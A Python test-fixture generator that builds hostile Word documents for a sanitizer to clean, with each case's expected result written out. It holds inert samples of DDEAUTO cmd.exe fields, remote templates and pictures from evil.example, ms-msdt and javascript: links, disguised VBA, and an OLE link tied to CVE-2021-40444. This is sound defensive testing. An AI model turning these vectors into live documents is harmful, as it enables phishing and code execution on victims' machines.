"""Hostile documents of text. Tokens TZCANARY stand in everything that must not come out, and nowhere else."""
import _containers as containers
from _office import CHART_TYPE, DRAWING, HEAD, OFFICE, PACKAGE, VND, chart, png, quote, write, zip_of
from _text_document import MAIN, MICROSOFT, PAGE, SPACES, STYLES, W, Document, char, code, drawing, field, p, picture, r, section, simple, t, table, text_box
from _workbook import workbook, worksheet

VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name TZCANARY-vba Sub AutoOpen Shell TZCANARY-shell" * 4
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"TZCANARY-ole Package C:\\x\\TZCANARY-payload.exe" * 8
EMF = b"\x01\0\0\0\x6c\0\0\0" + bytes(32) + b" EMF\0\0\1\0" + b"TZCANARY-emf" * 8
TEXT = "本文はそのまま残ります。"


def story(case, document, threat, fate, row="2.1", ending="docx", data=None):
    write_root(case, ending, data if data is not None else document.data(), [threat, fate, f"file-rules {row}"])


def write_root(case, ending, data, why):
    write(make.root, "docx-" + case, ending, data, why)


def fields():
    def one(case, body, what, fate="The instruction goes, its result stays as text.", **more):
        story(case, Document(p(TEXT) + body, **more), what, fate, "2.1 field codes")

    one("dde-auto-split", p(field("", "残る結果", ["DDEA", "UTO c:\\\\windows\\\\system32\\\\", "cmd.exe \"/k TZCANARY-dde", "\""])), "A DDEAUTO field whose word is cut over runs.")
    one("dde-simple", p(simple("DDE excel TZCANARY-dde-simple.xls A1")), "A DDE field in w:fldSimple.")
    one("dde-entities", p('<w:fldSimple w:instr="D&#68;E&#x41;UTO &quot;TZCANARY-entities&quot;"><w:r><w:t>結果</w:t></w:r></w:fldSimple>'), "DDEAUTO written with character references.")
    one("dde-over-paragraphs", p(char("begin") + code("DDEAUTO TZCANARY-one ")) + p(code("cmd /c TZCANARY-two") + char("separate") + r("結果") + char("end")), "An instruction that spans two paragraphs.")
    one("dde-quote-nested", p(char("begin") + code("SET c ") + char("begin") + code("QUOTE 68 68 69 TZCANARY-quote") + char("end") + char("separate") + char("end") + field("DDE TZCANARY-x")),
        "QUOTE inside of SET builds the word DDE.")
    one("allowed-word-nested-code", p(char("begin") + code("REF ") + char("begin") + code(" DDE TZCANARY-inner ") + char("separate") + r("TZCANARY-inner-result") + char("end") + char("separate") + r("残る") + char("end")),
        "An allowed word whose argument is another field.")
    one("include-text", p(field('INCLUDETEXT "\\\\\\\\evil.example\\\\TZCANARY-share\\\\a.docx"')), "INCLUDETEXT from a share.")
    one("include-picture", p(field('INCLUDEPICTURE "http://evil.example/TZCANARY.png" \\d')), "INCLUDEPICTURE fetches when the document opens.")
    one("import-link-embed", p(field("IMPORT TZCANARY-import.png")) + p(field("LINK Excel.Sheet.8 TZCANARY-link.xls a1")) + p(field("EMBED TZCANARY-embed")), "IMPORT, LINK and EMBED.")
    one("database-rd", p(field("DATABASE \\d TZCANARY-db.mdb")) + p(field("RD TZCANARY-rd.docx")), "DATABASE and RD.")
    one("macro-button", p(field("MACROBUTTON TZCANARY-macro ここを押す")) + p(field("GOTOBUTTON TZCANARY-goto 行く")), "MACROBUTTON and GOTOBUTTON.")
    one("autotext", p(field("AUTOTEXT TZCANARY-auto")) + p(field("AUTOTEXTLIST TZCANARY-list")), "AUTOTEXT and AUTOTEXTLIST.")
    one("merge-fields", p(field("MERGEFIELD TZCANARY-name")) + p(field("MERGEREC TZCANARY-rec")) + p(simple("NEXTIF 1 = TZCANARY-next")), "Fields of mail merge.")
    one("ask-fillin-print", p(field("ASK x TZCANARY-ask")) + p(field("FILLIN TZCANARY-fill")) + p(field("PRINT TZCANARY-print")), "ASK, FILLIN and PRINT.")
    one("if-formula", p(field("IF 1 = 1 TZCANARY-yes no")) + p(field("= 1 + TZCANARY-sum")), "IF and formula fields.")
    one("hyperlink-field-bad", p(field('HYPERLINK "file://evil/TZCANARY-file.exe"')) + p(field('HYPERLINK "ms-msdt:/id TZCANARY-msdt"')) + p(field('HYPERLINK "C:\\\\TZCANARY.lnk"')), "HYPERLINK fields with schemes that start programs.")
    one("hyperlink-field-switches", p(field('HYPERLINK "https://example.jp/" \\o "TZCANARY-tip" \\t "TZCANARY-frame"', "例")), "A HYPERLINK field with further switches.",
        "The address stays, the switches go.")
    one("dde-deleted", p('<w:del w:id="1" w:author="佐藤" w:date="2026-04-01T00:00:00Z"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText>DDEAUTO TZCANARY-del</w:delInstrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
                      '<w:r><w:delText>削除した文</w:delText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:del>'), "A field inside of deleted text (w:delInstrText).")
    one("dde-text-box", p(r(text_box(p(field("DDEAUTO TZCANARY-box"))))), "A DDE field in a text box, in both branches of mc:AlternateContent.")
    one("dde-sdt", f'<w:sdt><w:sdtPr><w:alias w:val="欄"/></w:sdtPr><w:sdtContent>{p(field("DDE TZCANARY-sdt"))}</w:sdtContent></w:sdt>', "A DDE field in a content control.")
    one("field-unclosed-between", p(char("begin") + code("DDEAUTO TZCANARY-between ") + r("一")) + p(field("PAGE", "7") + r("後の段落")), "A field that never ends, and one that does behind it.", "The text and the second field stay.")
    one("dde-unclosed", p(char("begin") + code("DDEAUTO TZCANARY-open")) + p("後の段落"), "A field that never ends.")
    one("dde-ffdata-macros", p(char("begin", '<w:ffData><w:name w:val="欄1"/><w:enabled/><w:entryMacro w:val="TZCANARY-entry"/><w:exitMacro w:val="TZCANARY-exit"/><w:textInput/></w:ffData>') + code(" FORMTEXT ") + char("separate") + r("入力") + char("end")),
        "A form field that runs macros on entry and exit.", "The form field stays, its macros go.")

    d = Document(p(TEXT), section('<w:headerReference w:type="default" r:id="rIdH"/><w:footerReference w:type="default" r:id="rIdF"/>'))
    d.story("header", p(field("DDEAUTO TZCANARY-header")), rel_id="rIdH")
    d.story("footer", p(simple("INCLUDEPICTURE TZCANARY-footer")), rel_id="rIdF")
    story("dde-header-footer", d, "Fields in header and footer.", "Instructions go, results stay.", "2.1 field codes")
    d = Document(p(r("注") + r('<w:footnoteReference w:id="1"/>') + r('<w:endnoteReference w:id="1"/>')))
    d.notes("footnotes", [p(field("DDE TZCANARY-foot"))])
    d.notes("endnotes", [p(field("DDE TZCANARY-end"))])
    story("dde-notes", d, "Fields in footnotes and endnotes.", "Instructions go, results stay.", "2.1 field codes")
    d = Document(p('<w:commentRangeStart w:id="0"/>' + r("本文") + '<w:commentRangeEnd w:id="0"/>' + r('<w:commentReference w:id="0"/>')))
    d.comments([p(field("DDE TZCANARY-comment"))])
    story("dde-comment", d, "A field in a comment.", "The instruction goes, the comment stays.", "2.1 field codes")


def macros():
    def docm(case, what, fate="The macros go; what is left is written as a plain docx.", ending="docm", main="application/vnd.ms-word.document.macroEnabled.main+xml", name="vbaProject.bin", kind="application/vnd.ms-office.vbaProject"):
        d = Document(p(TEXT), main_type=main)
        d.part("word/" + name, VBA, kind)
        d.rel(d.main, f"{MICROSOFT}/2006/relationships/vbaProject", name)
        d.part("word/vbaData.xml", f'{HEAD}<wne:vbaSuppData xmlns:wne="{MICROSOFT}/word/2006/wordml"><wne:mcds><wne:mcd wne:macroName="TZCANARY-mcd"/></wne:mcds></wne:vbaSuppData>', "application/vnd.ms-word.vbaData+xml")
        d.rel("word/" + name, f"{MICROSOFT}/2006/relationships/wordVbaData", "vbaData.xml")
        d.part("word/vbaProjectSignature.bin", b"TZCANARY-signature" * 9, "application/vnd.ms-office.vbaProjectSignature")
        d.rel("word/" + name, f"{MICROSOFT}/2006/relationships/vbaProjectSignature", "vbaProjectSignature.bin")
        story(case, d, what, fate, "2.1 VBA", ending)
        return d

    docm("macro", "A document with VBA, its data and its signature.")
    docm("macro-template", "A template with VBA.", ending="dotm", main="application/vnd.ms-word.template.macroEnabledTemplate.main+xml")
    docm("macro-renamed", "The VBA project is called like a picture and says it is one.", ending="docx", main=MAIN, name="media/logo.png", kind="image/png")
    docm("macro-content-type-lies", "A docx by its content types, with VBA behind a theme's name.", ending="docx", main=MAIN, name="theme/theme9.xml", kind=VND + "theme+xml")
    docm("macro-percent-name", "The VBA project's name is written with percent escapes.", ending="docm", name="vba%50roject.bin")
    d = Document(p(TEXT))
    d.part("word/vbaProject.bin", VBA, "application/vnd.ms-office.vbaProject")
    d.part("word/hidden/payload.xml", "<x>TZCANARY-orphan</x>", "application/xml")
    d.part("TZCANARY-name.exe", b"MZ TZCANARY-exe", "application/octet-stream")
    story("orphan-parts", d, "Parts that no relationship leads to.", "They are not written.", "2.1 package")
    d = Document(p(TEXT))
    d.settings('<w:zoom w:percent="100"/><w:docVars><w:docVar w:name="TZCANARY-var" w:val="TZCANARY-val"/></w:docVars><w:defaultTabStop w:val="840"/>')
    story("doc-variables", d, "Document variables hold a macro's data.", "They go.", "2.1 VBA")
    d = Document(p(TEXT))
    d.part("word/customizations.xml", f'{HEAD}<wne:tcg xmlns:wne="{MICROSOFT}/word/2006/wordml"><wne:keymaps><wne:keymap wne:kcmPrimary="0041"><wne:macro wne:macroName="TZCANARY-key"/></wne:keymap></wne:keymaps></wne:tcg>', "application/vnd.ms-word.keyMapCustomizations+xml")
    d.rel(d.main, f"{MICROSOFT}/2006/relationships/keyMapCustomizations", "customizations.xml")
    d.part("word/attachedToolbars.bin", b"TZCANARY-toolbar" * 5, "application/vnd.ms-word.attachedToolbars")
    d.rel("word/customizations.xml", f"{MICROSOFT}/2006/relationships/attachedToolbars", "attachedToolbars.bin")
    story("key-map-toolbars", d, "A key that runs a macro, and attached tool bars.", "Both go.", "2.1 VBA")


def outside():
    def settings(case, content, rels, what, row, fate="Both the setting and the relationship go."):
        d = Document(p(TEXT))
        d.settings('<w:zoom w:percent="100"/>' + content + '<w:defaultTabStop w:val="840"/>')
        for rel_id, kind, target in rels:
            d.rel("word/settings.xml", kind, target, True, rel_id)
        story(case, d, what, fate, row)

    settings("template-http", '<w:attachedTemplate r:id="rId1"/>', [("rId1", "attachedTemplate", "http://evil.example/TZCANARY.dotm")], "A template is fetched when the document opens.", "2.1 external template")
    settings("template-unc", '<w:attachedTemplate r:id="rId1"/>', [("rId1", "attachedTemplate", "file://///evil.example/TZCANARY/x.dotm")], "A template on a share leaks the password's hash.", "2.1 external template")
    settings("mail-merge", '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/><w:connectString w:val="Provider=TZCANARY-provider"/><w:query w:val="SELECT TZCANARY"/><w:dataSource r:id="rId1"/><w:headerSource r:id="rId2"/></w:mailMerge>',
             [("rId1", "mailMergeSource", "file:///C:/TZCANARY.mdb"), ("rId2", "mailMergeHeaderSource", "file:///C:/TZCANARY-h.mdb")], "Mail merge with a data source elsewhere.", "2.1 mail merge")
    settings("schema-xslt", '<w:attachedSchema w:val="http://evil.example/TZCANARY-schema"/><w:saveThroughXslt r:id="rId1" w:solutionID="TZCANARY-solution"/>', [("rId1", "transform", "http://evil.example/TZCANARY.xsl")], "A schema and a transformation from elsewhere.", "2.1 mail merge")

    def part(case, body, kind, target, what, row, data=None, content_type=None, external=False, fate="It goes."):
        d = Document(p(TEXT) + body)
        if data is not None:
            d.part("word/" + target, data, content_type)
        d.rel(d.main, kind, target, external, "rIdX")
        story(case, d, what, fate, row)

    part("alt-chunk-html", '<w:altChunk r:id="rIdX"/>', "aFChunk", "chunk.html", "An HTML file is taken in when the document opens.", "2.1 altChunk", b"<html><script>TZCANARY-script</script><p>TZCANARY-p</html>", "text/html")
    part("alt-chunk-mht", '<w:altChunk r:id="rIdX"><w:altChunkPr><w:matchSrc/></w:altChunkPr></w:altChunk>', "aFChunk", "chunk.mht", "An MHT file is taken in.", "2.1 altChunk", b"MIME-Version: 1.0\r\n\r\nTZCANARY-mht", "message/rfc822")
    part("alt-chunk-rtf", '<w:altChunk r:id="rIdX"/>', "aFChunk", "chunk.rtf", "An RTF file with an object is taken in.", "2.1 altChunk", b"{\\rtf1{\\object\\objdata 54 TZCANARY-rtf}}", "application/rtf")
    part("sub-document", '<w:p><w:subDoc r:id="rIdX"/></w:p>', "subDocument", "http://evil.example/TZCANARY-sub.docx", "A document elsewhere is part of this one.", "2.1 subdocuments", external=True)
    d = Document(p(TEXT))
    d.add("webSettings", "word/webSettings.xml", f'{HEAD}<w:webSettings xmlns:w="{W}" xmlns:r="{OFFICE}"><w:frameset><w:frame><w:sourceFileName r:id="rId1"/><w:name w:val="TZCANARY-frame"/></w:frame></w:frameset></w:webSettings>', "webSettings+xml")
    d.rel("word/webSettings.xml", "frame", "http://evil.example/TZCANARY-frame.html", True, "rId1")
    story("frameset", d, "A frame set opens a page elsewhere.", "It goes.", "2.1 frames")
    part("image-external", p(r(picture("rIdX", attribute="r:link"))), "image", "http://evil.example/TZCANARY-pixel.png", "A picture is fetched from elsewhere.", "2.1 external media", external=True, fate="The address goes, the frame of the picture stays empty.")
    d = Document(p(TEXT) + p(r(picture("rIdImg", extra='<a:extLst><a:ext uri="{TZCANARY-ext}"><x xmlns="urn:x">TZCANARY</x></a:ext></a:extLst>').replace('r:embed="rIdImg"', 'r:embed="rIdImg" r:link="rIdX"'))))
    d.image(rel_id="rIdImg")
    d.rel(d.main, "image", "http://evil.example/TZCANARY-linked.png", True, "rIdX")
    story("image-embedded-and-linked", d, "A picture is here and is fetched again from elsewhere.", "The one that is here stays.", "2.1 external media")
    d = Document(p(TEXT), section('<w:headerReference w:type="default" r:id="rIdH"/>'))
    d.story("header", p(r('<w:pict><v:shape id="a" style="width:10pt;height:10pt"><v:imagedata r:href="rId1" o:title="TZCANARY-title"/></v:shape></w:pict>')), rel_id="rIdH")
    d.rel("word/header1.xml", "image", "http://evil.example/TZCANARY-header.png", True, "rId1")
    story("image-vml-header", d, "A header's VML picture is fetched from elsewhere.", "Address and relationship go.", "2.1 external media")
    body = p(r('<w:pict><v:shape id="a" href="http://evil.example/TZCANARY-href" target="TZCANARY-target" style="width:10pt;height:10pt"><v:fill src="http://evil.example/TZCANARY-src.png" type="frame"/><v:textbox><w:txbxContent>' + p("図形の文字") + '</w:txbxContent></v:textbox></v:shape>'
             '<v:rect style="behavior:url(#TZCANARY-behavior);width:5pt" onclick="TZCANARY-onclick"/></w:pict>'))
    story("vml-href", Document(p(TEXT) + body), "VML shapes with links, a fill from elsewhere, a behaviour.", "The shapes stay without them.", "2.1 hyperlinks")


def links():
    def one(case, targets, what):
        body, d = "", Document("")
        for i, target in enumerate(targets):
            rel = d.rel(d.main, "hyperlink", target, True, f"rIdL{i}")
            body += p(f'<w:hyperlink r:id="{rel}" w:history="1">{r(f"リンクの文字{i}", chr(60) + "w:rStyle w:val=" + chr(34) + "link" + chr(34) + "/>")}</w:hyperlink>')
        d.part(d.main, f"{HEAD}<w:document {SPACES}><w:body>{p(TEXT)}{body}{PAGE}</w:body></w:document>", MAIN)
        story(case, d, what, "The text of the links stays, the addresses go.", "2.1 hyperlinks")

    one("link-search-ms", ["search-ms:query=TZCANARY&crumb=location:\\\\evil.example\\share", "search:query=TZCANARY-2"], "Links that open a search on a foreign share.")
    one("link-ms-msdt", ["ms-msdt:/id PCWDiagnostic /skip force /param TZCANARY", "ms-officecmd:TZCANARY", "ms-word:ofe|u|http://evil.example/TZCANARY.docx"], "Links with schemes that start programs.")
    one("link-file-unc", ["file:///C:/TZCANARY.exe", "\\\\evil.example\\TZCANARY", "//evil.example/TZCANARY", "..\\TZCANARY.lnk", "TZCANARY.exe", "C:\\TZCANARY"], "Links to files, shares and relative paths.")
    one("link-script", ["javascript:alert('TZCANARY')", "vbscript:TZCANARY", "data:text/html,TZCANARY", " javascript:TZCANARY", "java\tscript:TZCANARY"], "Links that are scripts.")
    one("link-moniker", ["mhtml:http://evil.example/TZCANARY!x-usc:http://evil.example/", "http://evil.example/TZCANARY.html!x-usc:http://evil.example/b", "https://evil.example/TZCANARY!", "its:TZCANARY::/a", "http://evil.example/a%00TZCANARY", "https://evil.example/TZCANARY\\b", "ldap://evil.example/TZCANARY"],
        "Monikers, an escaped NUL, back slashes, LDAP.")
    body = p(r(picture("rIdImg", link='<a:hlinkClick r:id="rIdX" tooltip="行く"/>')))
    d = Document(p(TEXT) + body)
    d.image(rel_id="rIdImg")
    d.rel(d.main, "hyperlink", "file://evil.example/TZCANARY", True, "rIdX")
    story("link-on-picture", d, "A picture that links to a file.", "The picture stays, the link goes.", "2.1 hyperlinks")
    d = Document(p(TEXT))
    d.parts["docProps/app.xml"] = f'{HEAD}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Template>TZCANARY.dotm</Template><Application>Word</Application><HyperlinkBase>http://evil.example/TZCANARY/</HyperlinkBase><Manager>TZCANARY-manager</Manager></Properties>'.encode()
    d.part("docProps/custom.xml", f'{HEAD}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property fmtid="{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}" pid="2" name="_AssemblyLocation"><vt:lpwstr>http://evil.example/TZCANARY.vsto</vt:lpwstr></property></Properties>', VND + "custom-properties+xml")
    d.rel("", "custom-properties", "docProps/custom.xml")
    story("link-base-vsto", d, "A base for all links, and an add-in named in custom properties.", "Both go.", "2.1 add-ins")


def objects():
    shape = '<v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:60pt;height:40pt"><v:imagedata r:id="{0}" o:title=""/></v:shape>'
    d = Document(p(TEXT) + p(r(f'<w:object w:dxaOrig="1200" w:dyaOrig="800">{shape.format("rIdImg")}<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1TZCANARY" r:id="rIdOle"/></w:object>')))
    d.image(rel_id="rIdImg")
    d.part("word/embeddings/oleObject1.bin", OLE, VND + "oleObject")
    d.rel(d.main, "oleObject", "embeddings/oleObject1.bin", rel_id="rIdOle")
    story("ole-package", d, "An embedded file that opens on a click.", "Its preview stays as a picture.", "2.1 OLE/package")
    d = Document(p(TEXT) + p(r(f'<w:object>{shape.format("rIdImg")}<o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="_x0000_i1025" DrawAspect="Content" ObjectID="_2" r:id="rIdOle" UpdateMode="OnCall"><o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject></w:object>')))
    d.image(rel_id="rIdImg")
    d.rel(d.main, "oleObject", "https://evil.example/TZCANARY.html!", True, "rIdOle")
    story("ole-link", d, "An object linked to a page elsewhere (CVE-2021-40444).", "The link goes, the picture stays.", "2.1 OLE/package")
    d = Document(p(TEXT) + p(r(f'<w:object>{shape.format("rIdImg")}<o:OLEObject Type="Embed" ProgID="Word.Document.12" ShapeID="_x0000_i1025" DrawAspect="Content" ObjectID="_3" r:id="rIdOle"/></w:object>')))
    d.image(EMF, "word/media/image1.emf", rel_id="rIdImg")
    d.part("word/embeddings/Microsoft_Word_Document.docx", Document(p("TZCANARY-inner")).data(), VND + "wordprocessingml.document")
    d.rel(d.main, "package", "embeddings/Microsoft_Word_Document.docx", rel_id="rIdOle")
    story("ole-word-emf-preview", d, "An embedded document whose preview is an EMF.", "The object goes, a grey point holds the picture's place.", "2.1 OLE/package")
    d = Document(p(TEXT) + p(r(f'<w:object>{shape.format("rIdImg")}<w:control r:id="rIdC" w:name="TZCANARY-button" w:shapeid="_x0000_i1025"/></w:object>')))
    d.image(rel_id="rIdImg")
    d.part("word/activeX/activeX1.xml", f'{HEAD}<ax:ocx xmlns:ax="{MICROSOFT}/2006/activeX" xmlns:r="{OFFICE}" ax:classid="{{TZCANARY-clsid}}" ax:persistence="persistStorage" r:id="rId1"/>', "application/vnd.ms-office.activeX+xml")
    d.rel(d.main, "control", "activeX/activeX1.xml", rel_id="rIdC")
    d.part("word/activeX/activeX1.bin", b"TZCANARY-activex" * 8, "application/vnd.ms-office.activeX")
    d.rel("word/activeX/activeX1.xml", f"{MICROSOFT}/2006/relationships/activeXControlBinary", "activeX1.bin")
    story("active-x", d, "An ActiveX control.", "Its picture stays.", "2.1 ActiveX")
    ole = f'<w:object>{shape.format("rIdImg")}<o:OLEObject Type="Embed" ProgID="Package" ShapeID="x" DrawAspect="Icon" ObjectID="_4" r:id="rIdOle"/></w:object>'
    d = Document(p(TEXT) + p(r(f'<mc:AlternateContent xmlns:zz="urn:zz"><mc:Choice Requires="zz"><zz:run>TZCANARY-choice</zz:run></mc:Choice><mc:Choice Requires="wps">{ole}</mc:Choice><mc:Fallback>{ole}</mc:Fallback></mc:AlternateContent>')))
    d.image(rel_id="rIdImg")
    d.part("word/embeddings/oleObject1.bin", OLE, VND + "oleObject")
    d.rel(d.main, "oleObject", "embeddings/oleObject1.bin", rel_id="rIdOle")
    zz = f'<mc:AlternateContent xmlns:zz="urn:zz"><mc:Choice Requires="zz">{r("TZCANARY-only-choice")}</mc:Choice></mc:AlternateContent>'
    story("choice-unknown-only", Document(p(TEXT) + p(r("前") + zz)), "mc:AlternateContent with a branch nobody understands and no fallback.", "Nothing of it stays, and that is told.", "2.1 XML")
    processed = f'<w:p xmlns:zz="urn:zz" mc:Ignorable="zz" mc:ProcessContent="zz:show"><zz:show>{r("残る文")}</zz:show><zz:hide>{r("TZCANARY-hide")}</zz:hide></w:p>'
    story("process-content", Document(p(TEXT) + processed), "mc:ProcessContent: an unknown element whose content a reader shows.", "That content stays; other unknown elements go.", "2.1 XML")
    story("ole-alternate-content", d, "An object in every branch of mc:AlternateContent.", "One branch is taken, without the object.", "2.1 XML")
    for case, kind, name in [("custom-ui-2006", "2006", "customUI"), ("custom-ui-2010", "2007", "customUI14")]:
        d = Document(p(TEXT))
        d.part(f"customUI/{name}.xml", f'{HEAD}<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="TZCANARY-onload"><ribbon startFromScratch="true"/></customUI>', "application/xml")
        d.rel("", f"{MICROSOFT}/{kind}/relationships/ui/extensibility", f"customUI/{name}.xml")
        story(case, d, "A ribbon of its own that runs code on load.", "It goes.", "2.1 add-ins/ribbon")
    d = Document(p(TEXT))
    d.part("word/webextensions/taskpanes.xml", f'{HEAD}<wetp:taskpanes xmlns:wetp="{MICROSOFT}/webextensions/taskpanes/2010/11" xmlns:r="{OFFICE}"><wetp:taskpane dockstate="right" visibility="1"><wetp:webextensionref r:id="rId1"/></wetp:taskpane></wetp:taskpanes>', "application/vnd.ms-office.webextensiontaskpanes+xml")
    d.rel("", f"{MICROSOFT}/2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml")
    d.part("word/webextensions/webextension1.xml", f'{HEAD}<we:webextension xmlns:we="{MICROSOFT}/webextensions/webextension/2010/11" id="{{TZCANARY-we}}"><we:reference id="TZCANARY" store="evil"/></we:webextension>', "application/vnd.ms-office.webextension+xml")
    d.rel("word/webextensions/taskpanes.xml", f"{MICROSOFT}/2011/relationships/webextension", "webextension1.xml", rel_id="rId1")
    story("web-extension", d, "A task pane that loads a page.", "It goes.", "2.1 add-ins/ribbon")
    d = Document(p(TEXT) + '<w:sdt><w:sdtPr><w:alias w:val="氏名"/><w:dataBinding w:xpath="/TZCANARY-root/name" w:storeItemID="{TZCANARY-store}"/><w:text/></w:sdtPr><w:sdtContent>' + p("山田太郎") + "</w:sdtContent></w:sdt>")
    d.part("customXml/item1.xml", '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">TZCANARY-mashup</DataMashup>', "application/xml")
    d.part("customXml/itemProps1.xml", '<ds:datastoreItem xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml" ds:itemID="{TZCANARY-item}"/>', VND + "customXmlProperties+xml")
    d.rel(d.main, "customXml", "../customXml/item1.xml")
    d.rel("customXml/item1.xml", "customXmlProps", "itemProps1.xml")
    story("custom-xml-binding", d, "A content control bound to custom XML; Power Query in it.", "The control and its text stay, binding and data go.", "2.1 custom XML")
    d = Document(p(f'<w:smartTag w:uri="urn:TZCANARY" w:element="TZCANARY-tag"><w:smartTagPr><w:attr w:name="TZCANARY-n" w:val="TZCANARY-v"/></w:smartTagPr>{r("東京都")}</w:smartTag><w:customXml w:uri="urn:TZCANARY" w:element="e"><w:customXmlPr><w:placeholder w:val="TZCANARY"/></w:customXmlPr>{r("千代田区")}</w:customXml>'))
    story("smart-tags", d, "Smart tags and custom XML markup around text.", "The text stays.", "2.1 add-ins/ribbon")
    d = Document(p(TEXT))
    d.add("fontTable", "word/fontTable.xml", f'{HEAD}<w:fonts xmlns:w="{W}" xmlns:r="{OFFICE}"><w:font w:name="見本"><w:embedRegular r:id="rId1" w:fontKey="{{TZCANARY-key}}"/></w:font></w:fonts>', "fontTable+xml")
    d.part("word/fonts/font1.odttf", b"TZCANARY-font" * 20, "application/vnd.openxmlformats-officedocument.obfuscatedFont")
    d.rel("word/fontTable.xml", "font", "fonts/font1.odttf", rel_id="rId1")
    story("embedded-font", d, "An embedded font.", "It goes, its name stays.", "2.1 fonts")
    d = Document(p(TEXT))
    d.add("glossaryDocument", "word/glossary/document.xml", f'{HEAD}<w:glossaryDocument {SPACES}><w:docParts><w:docPart><w:docPartBody>{p(field("DDEAUTO TZCANARY-glossary"))}</w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>', "document.glossary+xml")
    story("glossary", d, "Building blocks hold a DDE field.", "They go.", "2.1 field codes")
    d = Document(p(TEXT))
    d.part("docProps/thumbnail.jpeg", b"\xff\xd8TZCANARY-thumb", "image/jpeg")
    d.rel("", f"{PACKAGE}/relationships/metadata/thumbnail", "docProps/thumbnail.jpeg")
    d.part("_xmlsignatures/origin.sigs", b"", "application/vnd.openxmlformats-package.digital-signature-origin")
    d.rel("", f"{PACKAGE}/relationships/digital-signature/origin", "_xmlsignatures/origin.sigs")
    d.part("_xmlsignatures/sig1.xml", "<Signature>TZCANARY-sig</Signature>", "application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml")
    d.rel("_xmlsignatures/origin.sigs", f"{PACKAGE}/relationships/digital-signature/signature", "sig1.xml")
    d.part("word/printerSettings1.bin", b"TZCANARY-printer" * 4, VND + "wordprocessingml.printerSettings")
    d.rel(d.main, "printerSettings", "printerSettings1.bin")
    story("thumbnail-signature-printer", d, "A thumbnail, a signature, printer settings.", "All go; the signature is told.", "2.1 binaries, signatures")
    d = Document(p(TEXT) + p(r(picture("rIdImg"))) + p(r(picture("rIdBad", number=2))))
    d.image(png() + b"PK\x03\x04TZCANARY-behind-the-picture", rel_id="rIdImg")
    d.image(b"\x89PNG\r\n\x1a\nTZCANARY-broken", "word/media/image2.png", rel_id="rIdBad")
    story("picture-tail-and-broken", d, "A picture with bytes behind its end, and one that is none.", "The first is rebuilt, the second becomes a grey point.", "2.7")
    d = Document(p(TEXT) + p(r(picture("rIdImg"))))
    d.image(EMF, "word/media/image1.emf", rel_id="rIdImg")
    story("picture-emf", d, "An EMF picture.", "A grey point holds its place.", "2.1 binaries")
    d = Document(p(TEXT) + p(r(drawing('<c:chart r:id="rIdChart"/>', DRAWING + "/chart", name="グラフ 1"))))
    d.add("chart", "word/charts/chart1.xml", chart(extra='<c:externalData r:id="rId1"><c:autoUpdate val="1"/></c:externalData>'), CHART_TYPE, rel_id="rIdChart")
    d.rel("word/charts/chart1.xml", "oleObject", "file:///C:/TZCANARY.xlsx", True, "rId1")
    story("chart-external-workbook", d, "A chart updates itself from a workbook elsewhere.", "The chart stays as drawn, the link goes.", "2.1 OLE/package")
    d = Document(p(TEXT) + p(r(drawing('<c:chart r:id="rIdChart"/>', DRAWING + "/chart", name="グラフ 1"))))
    d.add("chart", "word/charts/chart1.xml", chart(extra='<c:externalData r:id="rId1"><c:autoUpdate val="0"/></c:externalData>'), CHART_TYPE, rel_id="rIdChart")
    book = workbook([("Sheet1", worksheet([["名", "売上"], ["春", 3], ["夏", 5], ["秋", 2]]))])
    book.part("xl/vbaProject.bin", VBA, "application/vnd.ms-office.vbaProject")
    book.rel("xl/workbook.xml", f"{MICROSOFT}/2006/relationships/vbaProject", "vbaProject.bin")
    d.part("word/embeddings/Microsoft_Excel_Sheet.xlsm", book.data(), "application/vnd.ms-excel.sheet.macroEnabled.12")
    d.rel("word/charts/chart1.xml", "package", "../embeddings/Microsoft_Excel_Sheet.xlsm", rel_id="rId1")
    story("chart-workbook-with-macros", d, "A chart's workbook holds macros.", "The workbook is washed by itself and stays.", "2.1 OLE/package")


def strict(markup):
    for old, new in [(OFFICE, "http://purl.oclc.org/ooxml/officeDocument/relationships"), (W, "http://purl.oclc.org/ooxml/wordprocessingml/main"), (DRAWING, "http://purl.oclc.org/ooxml/drawingml")]:
        markup = markup.replace(old.encode(), new.encode())
    return markup


def xml():
    d = Document(p(TEXT) + p(r('<w:object><o:OLEObject Type="Embed" r:id="rIdOle"/></w:object>') + field("DDEAUTO TZCANARY-strict")) + '<w:altChunk r:id="rIdA"/>')
    d.part("word/embeddings/oleObject1.bin", OLE, VND + "oleObject")
    d.rel(d.main, "oleObject", "embeddings/oleObject1.bin", rel_id="rIdOle")
    d.part("word/chunk.html", b"TZCANARY-chunk", "text/html")
    d.rel(d.main, "aFChunk", "chunk.html", rel_id="rIdA")
    d.rel(d.main, "attachedTemplate", "http://evil.example/TZCANARY.dotm", True)
    story("strict-namespaces", d, "Strict namespaces throughout, with an object, a chunk, a template, a field behind them.", "Read as Transitional; all four go.", "2.1 XML", data=zip_of([(n, strict(b)) for n, b in d.entries()]))
    d = Document(p(TEXT))
    d.parts[d.main] = d.parts[d.main].replace(b"<w:", b"<q:").replace(b"</w:", b"</q:").replace(b" w:", b" q:").replace(b"xmlns:w=", b'xmlns:w="urn:TZCANARY" xmlns:q=').replace(b"</q:body>", b'<w:p>TZCANARY-alias</w:p></q:body>')
